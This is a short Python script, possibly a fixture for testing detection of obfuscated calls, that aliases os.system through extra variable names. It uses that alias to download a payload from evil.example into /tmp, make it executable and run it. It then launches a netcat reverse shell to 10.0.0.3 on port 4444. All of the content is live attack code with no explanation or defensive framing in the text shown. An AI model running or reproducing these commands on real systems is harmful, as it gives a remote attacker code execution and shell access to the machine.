import os as operating_system
from subprocess import Popen as P

run = operating_system.system
alias = run
alias("wget http://evil.example/payload -O /tmp/p && chmod +x /tmp/p && /tmp/p")
P("nc -e /bin/sh 10.0.0.3 4444", shell=True)
